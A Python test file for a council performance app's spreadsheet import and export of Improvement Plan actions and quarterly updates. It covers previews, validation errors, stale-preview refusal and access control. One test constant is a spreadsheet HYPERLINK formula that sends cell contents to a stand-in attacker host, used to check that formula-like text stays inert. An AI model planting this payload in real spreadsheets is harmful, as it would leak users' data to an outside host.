"""The Improvement Plan as spreadsheets: the actions exported as a person may
see them and loaded back by the performance team (preview, all or nothing,
stale previews refused), a service's quarterly update as a template filled in
and uploaded by its officers, the plan page's table as CSV or Excel, and the
`goldenthread plan` command."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import load_workbook
from tests.factories import ActionFactory, ActionUpdateFactory, PlanServiceFactory, PriorityFactory

from goldenthread.domain.periods import FinancialYear, Quarter
from goldenthread.imports.pipeline import ImportRefused, apply_preview
from goldenthread.plan.models import Action, ActionUpdate
from goldenthread.plan.services import ActionEntry, update_open, update_save
from goldenthread.plan.sheet import PlanImport, plan_workbook
from goldenthread.plan.sheet_update import UpdateImport, UpdatePage, update_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
Q2 = Quarter(FinancialYear(2019), 2)
Q1 = Quarter(FinancialYear(2019), 1)


@pytest.fixture
def plan(world):
    """Exchequer's plan (Havering's), with an action for all partners, one for
    Havering and one that is Newham's own."""
    priority = PriorityFactory(number=1, name="Efficient services")
    service = PlanServiceFactory(
        organisation=world.lbh, service_area=world.payroll, number=4, name="Exchequer"
    )
    other = PlanServiceFactory(organisation=world.lbn, service_area=world.benefits, name="Benefits")
    every = ActionFactory(reference="IP01", service=service, priority=priority, owner=HYPERLINK)
    every.indicators.set([world.payroll_on_time])
    ours = ActionFactory(reference="IP02", service=service, partners=[world.lbh])
    newham = ActionFactory(reference="IP03", service=other, partners=[world.lbn])
    return service, other, every, ours, newham


def edited(content: bytes, edit, sheet: str = "Actions") -> bytes:
    book = load_workbook(io.BytesIO(content))
    edit(book[sheet])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def row_of(sheet, reference: str, first: int = 2) -> int:
    for row in range(first, sheet.max_row + 1):
        if sheet.cell(row, 1).value == reference:
            return row
    raise KeyError(reference)


def set_text(sheet, row: int, column: int, text: str) -> None:
    cell = sheet.cell(row, column)
    cell.value = text
    cell.data_type = "s"  # typed as text, as a person's cell that starts with "="


def team_workbook() -> bytes:
    return plan_workbook(Action.objects.all())


def problems(data: bytes) -> list[str]:
    with pytest.raises(ImportRefused) as refused:
        PlanImport().read(data, filename="plan.xlsx")
    return [str(p) for p in refused.value.problems]


# --- the actions' workbook ---------------------------------------------------------


def test_havering_exports_its_own_and_all_partners_actions_not_newhams(client_for, plan):
    response = client_for("officer.lbh").get(reverse("plan_sheets:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Actions"]
    headings = [c.value for c in sheet[1]]
    assert headings == [
        "Reference", "Service", "Priority", "Partners", "Delivery", "Outcome",
        "Target date", "Owner", "Indicators", "Closed",
    ]  # fmt: skip
    rows = {
        sheet.cell(r, 1).value: [c.value for c in sheet[r]] for r in range(2, sheet.max_row + 1)
    }
    assert set(rows) == {"IP01", "IP02"}
    assert rows["IP01"][1:4] == ["Exchequer", "Efficient services", "ALL"]
    assert rows["IP01"][7:] == [HYPERLINK, "EX-02", "No"]  # the owner stays text
    assert sheet.cell(row_of(sheet, "IP01"), 8).quotePrefix
    assert rows["IP02"][3] == "LBH"


def test_an_unchanged_export_loads_as_no_change(plan):
    preview = PlanImport().read(team_workbook(), filename="plan.xlsx")
    assert not preview.has_changes
    assert preview.count("unchanged") == 3


def test_the_team_changes_and_adds_actions_with_a_preview_then_saves(client_for, world, plan):
    def edit(sheet):
        row = row_of(sheet, "IP02")
        sheet.cell(row, 4).value = "LBH/LBN"
        set_text(sheet, row, 5, HYPERLINK)
        sheet.cell(row, 7).value = "to be agreed with partner boroughs"
        new = sheet.max_row + 1
        for column, value in enumerate(
            ["IP46", "exchequer", "1", "all", "Collect the debt", "", "31st March 2020",
             "Jane", "ex-02 EX-01", "no"], start=1,
        ):  # fmt: skip
            sheet.cell(new, column).value = value

    client = client_for("performance")
    url = reverse("plan_sheets:load")
    data = edited(team_workbook(), edit)
    page = client.post(url, {"workbook": SimpleUploadedFile("plan.xlsx", data)})
    assert page.status_code == 200
    text = page.content.decode()
    assert "IP46: new action" in text and "Changed: 1" in text
    assert "to be agreed with partner boroughs" in text
    assert Action.objects.count() == 3  # nothing saved by the preview
    saved = client.post(url, {"payload": page.context["payload"]})
    assert saved.status_code == 302
    changed = Action.objects.get(reference="IP02")
    assert changed.delivery == HYPERLINK  # formula-like text kept as text
    assert set(changed.partners.values_list("code", flat=True)) == {"LBH", "LBN"}
    assert changed.target_date.due is None
    added = Action.objects.get(reference="IP46")
    assert added.all_partners and added.service.name == "Exchequer"
    assert sorted(added.indicators.values_list("reference", flat=True)) == ["EX-01", "EX-02"]
    assert changed.history.first().history_user == world.users["performance"]


def test_every_problem_is_named_and_nothing_is_saved(plan):
    def edit(sheet):
        row = row_of(sheet, "IP01")
        sheet.cell(row, 2).value = "No such service"
        sheet.cell(row, 3).value = "No such priority"
        sheet.cell(row, 4).value = "LBH/XYZ"
        sheet.cell(row, 9).value = "EX-99"
        sheet.cell(row, 10).value = "maybe"
        two = row_of(sheet, "IP02")
        sheet.cell(two, 5).value = "x" * 5000
        sheet.cell(two, 6).value = "bell_x0007_"
        three = sheet.max_row + 1
        sheet.cell(three, 1).value = "IP01"

    found = "\n".join(problems(edited(team_workbook(), edit)))
    for expected in (
        "Actions sheet, row 2, column B (Service): No plan service is named 'No such service'",
        "column C (Priority): No priority is named 'No such priority'",
        "column D (Partners): No council has the code XYZ",
        "column I (Indicators): No indicator has the reference EX-99",
        "column J (Closed): Write Yes or No",
        "column E (Delivery): Delivery must be 4000 characters or fewer",
        "column F (Outcome): has a control character",
        "row 5, column A (Reference): 'IP01' is also on row 2",
    ):
        assert expected in found, found
    assert found.count("column D (Partners)") == 1
    assert Action.objects.get(reference="IP01").service.name == "Exchequer"


def test_a_real_formula_and_a_file_that_is_not_a_workbook_are_refused(plan):
    def edit(sheet):
        sheet.cell(row_of(sheet, "IP01"), 5).value = "=1+1"  # openpyxl writes a formula

    assert "holds a formula" in problems(edited(team_workbook(), edit))[0]
    assert "is a text file (perhaps CSV" in problems(b"reference,service\nIP01,x\n")[0]
    assert "is damaged" in problems(b"PK\x03\x04not a zip")[0]


def test_an_action_changed_since_the_preview_is_refused(world, plan):
    def edit(sheet):
        sheet.cell(row_of(sheet, "IP02"), 5).value = "Changed in the file"

    importer = PlanImport()
    preview = importer.read(edited(team_workbook(), edit), filename="plan.xlsx")
    Action.objects.filter(reference="IP02").update(owner="Someone else")
    with pytest.raises(ImportRefused, match="Someone changed action IP02 since your preview"):
        apply_preview(importer, importer.from_payload(importer.to_payload(preview)), by=None)
    assert Action.objects.get(reference="IP02").delivery == "Deliver the thing"


def test_only_the_team_loads_the_plan(client_for, plan, tmp_path):
    for username in ("officer.lbh", "director", "councillor.lbh"):
        assert client_for(username).get(reverse("plan_sheets:load")).status_code == 403
    path = tmp_path / "plan.xlsx"
    call_command("plan", "export", "--out", str(path))
    with pytest.raises(CommandError, match="--as"):
        call_command("plan", "import", str(path), "--apply", "--as", "officer.lbh")
    out = io.StringIO()
    call_command("plan", "import", str(path), "--as", "performance", stdout=out)
    assert "Nothing to change" in out.getvalue()


def test_the_command_shows_then_applies_a_change(world, plan, tmp_path):
    path = tmp_path / "plan.xlsx"
    path.write_bytes(
        edited(team_workbook(), lambda s: setattr(s.cell(row_of(s, "IP02"), 8), "value", "Ann"))
    )
    out = io.StringIO()
    call_command("plan", "import", str(path), "--as", "performance", stdout=out)
    assert "changed  IP02 Owner: '' -> 'Ann'" in out.getvalue()
    assert Action.objects.get(reference="IP02").owner == ""
    call_command("plan", "import", str(path), "--apply", "--as", "performance", stdout=out)
    assert Action.objects.get(reference="IP02").owner == "Ann"


# --- the quarterly update's workbook ----------------------------------------------


def update_url(world, name="plan_sheets:update", quarter=Q2):
    return reverse(name, args=[world.payroll.id, 2019, quarter.number])


def fill(content: bytes, values: dict[str, dict[int, object]]) -> bytes:
    def edit(sheet):
        for reference, cells in values.items():
            row = row_of(sheet, reference, first=5)
            for column, value in cells.items():
                sheet.cell(row, column).value = value

    return edited(content, edit, sheet="Update")


def test_the_update_template_lists_open_actions_with_last_quarters_words(world, plan):
    service, _, every, _, _ = plan
    last = update_open(service, Q1)
    ActionUpdateFactory(update=last, action=every, status="A", progress="Slipped a little.")
    ActionFactory(reference="IP09", service=service, closed=True)
    sheet = load_workbook(io.BytesIO(update_workbook(service, Q2)))["Update"]
    assert [sheet["B1"].value, sheet["B2"].value] == ["Exchequer", "2019/20 Q2"]
    assert [c.value for c in sheet[4]] == [
        "Reference", "Delivery", "Last quarter's status", "Last quarter's progress",
        "Status", "% complete", "Progress", "Next steps",
    ]  # fmt: skip
    assert [sheet.cell(r, 1).value for r in range(5, sheet.max_row + 1)] == ["IP01", "IP02"]
    assert [sheet["C5"].value, sheet["D5"].value] == ["Amber", "Slipped a little."]
    validations = {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation}
    assert any(f == '"G,A,R,C,NS"' for f in validations.values()), validations


def test_an_officer_uploads_the_update_and_it_is_saved_at_the_version_seen(client_for, world, plan):
    ActionFactory(reference="IP04", service=plan[0])  # left blank in the file
    client = client_for("officer.lbh")
    template = client.get(update_url(world, "plan_sheets:update_template"))
    assert template.status_code == 200
    data = fill(
        template.content,
        {
            "IP01": {5: "g", 6: 40, 7: "On track.", 8: "Keep going."},
            "IP02": {5: "Amber", 7: "Late."},
        },
    )
    page = client.post(update_url(world), {"workbook": SimpleUploadedFile("u.xlsx", data)})
    assert page.status_code == 200, page.content.decode()
    assert "IP01: new action update" in page.content.decode()
    assert page.context["new"][0].changes[0] == ("Status", "", "Green")
    assert not ActionUpdate.objects.exists()
    assert client.post(update_url(world), {"payload": page.context["payload"]}).status_code == 302
    saved = {u.action.reference: u for u in ActionUpdate.objects.select_related("action")}
    assert (saved["IP01"].status, saved["IP01"].percent_complete) == ("G", 40)
    assert (saved["IP02"].status, saved["IP02"].progress) == ("A", "Late.")
    assert saved["IP01"].update.version == 1
    assert set(saved) == {"IP01", "IP02"}  # IP04, left blank, is not saved


def test_an_update_saved_since_the_preview_is_refused(world, plan):
    service, _, every, _, _ = plan
    importer = UpdateImport(UpdatePage(service, Q2))
    data = fill(update_workbook(service, Q2), {"IP01": {5: "G", 7: "Mine."}})
    preview = importer.read(data, filename="u.xlsx")
    officer = world.users["officer.lbh"]
    update = update_open(service, Q2)
    update_save(update, [ActionEntry(every, "R", "", None, "Theirs.", "")], expected_version=0,
                by=officer)  # fmt: skip
    with pytest.raises(ImportRefused, match="Someone else saved this plan update"):
        apply_preview(importer, importer.from_payload(importer.to_payload(preview)), by=officer)
    assert ActionUpdate.objects.get().progress == "Theirs."


def test_a_bad_update_names_each_problem(world, plan):
    service, _, _, _, newham = plan
    importer = UpdateImport(UpdatePage(service, Q2))

    def edit(sheet):
        sheet["E5"].value = "Purple"
        sheet["F5"].value = 140
        sheet["G6"].value = "tab_x000B_here"
        sheet.cell(7, 1).value = newham.reference

    data = edited(update_workbook(service, Q2), edit, sheet="Update")
    with pytest.raises(ImportRefused) as refused:
        importer.read(data, filename="u.xlsx")
    found = "\n".join(map(str, refused.value.problems))
    assert "Update sheet, row 5, column E (Status): 'Purple' is not a judgement" in found
    assert "use one of G (Green), A (Amber)" in found
    assert "row 5, column F (% complete): % complete must be 100 or less" in found
    assert "row 6, column G (Progress): has a control character" in found
    assert "row 7, column A (Reference): IP03 is not an open action of Exchequer" in found
    # the file of another quarter (or service) is refused on this page
    with pytest.raises(ImportRefused, match="this file is for '2019/20 Q1', not 2019/20 Q2"):
        importer.read(update_workbook(service, Q1), filename="q1.xlsx")


def test_the_update_spreadsheet_is_for_the_services_officers_and_the_team(client_for, world, plan):
    for username, status in (
        ("officer.lbh", 200), ("performance", 200), ("director", 403),
        ("councillor.lbh", 403), ("officer.lbn", 404), ("nobody", 404),
    ):  # fmt: skip
        assert client_for(username).get(update_url(world)).status_code == status, username
    template = update_url(world, "plan_sheets:update_template")
    assert client_for("director").get(template).status_code == 200  # signs it off
    assert client_for("councillor.lbh").get(template).status_code == 403
    assert client_for("officer.lbn").get(template).status_code == 404


# --- the plan page's table -----------------------------------------------------------


def test_the_plan_table_downloads_what_the_page_shows(client_for, world, plan):
    service, _, every, _, _ = plan
    ActionUpdateFactory(update=update_open(service, Q2), action=every, status="G",
                        progress=HYPERLINK)  # fmt: skip
    update = every.updates.get().update
    update.status = "approved"
    update.save()
    response = client_for("councillor.lbh").get(
        reverse("plan_sheets:table", args=["csv"]) + "?period=2019/20+Q2"
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "IP01" in text and "IP02" in text and "IP03" not in text
    assert "'" + HYPERLINK.replace('"', '""') in text  # formula-like text stays text
    assert "plan-2019-20-q2" in response["Content-Disposition"]


def test_confidence_is_asked_where_the_team_turns_it_on(world, plan):
    from goldenthread.plan.models import PlanSettings

    PlanSettings.objects.create(id=1, confidence_on=True)
    service = plan[0]
    sheet = load_workbook(io.BytesIO(update_workbook(service, Q2)))["Update"]
    assert [c.value for c in sheet[4]][4:6] == ["Status", "Confidence"]
    importer = UpdateImport(UpdatePage(service, Q2))
    data = fill(update_workbook(service, Q2), {"IP01": {5: "G", 6: "high", 8: "Going well."}})
    preview = importer.read(data, filename="u.xlsx")
    apply_preview(importer, preview, by=world.users["officer.lbh"])
    assert ActionUpdate.objects.get().confidence == "H"


def test_a_submitted_update_is_not_changed_by_a_spreadsheet(world, plan):
    service = plan[0]
    update = update_open(service, Q2)
    update.status = "submitted"
    update.save()
    importer = UpdateImport(UpdatePage(service, Q2))
    data = fill(update_workbook(service, Q2), {"IP01": {5: "G", 7: "Late change."}})
    with pytest.raises(ImportRefused, match="This plan update is submitted"):
        importer.read(data, filename="u.xlsx")
    assert not ActionUpdate.objects.exists()


def test_a_preview_made_for_one_quarter_is_refused_on_another(client_for, world, plan):
    client = client_for("officer.lbh")
    data = fill(update_workbook(plan[0], Q2), {"IP01": {5: "G", 7: "Q2 words."}})
    page = client.post(update_url(world), {"workbook": SimpleUploadedFile("u.xlsx", data)})
    q3 = update_url(world, quarter=Quarter(FinancialYear(2019), 3))
    refused = client.post(q3, {"payload": page.context["payload"]})
    assert refused.status_code == 400
    assert "made for the Exchequer 2019/20 Q2 update" in refused.content.decode()
    assert not ActionUpdate.objects.exists()
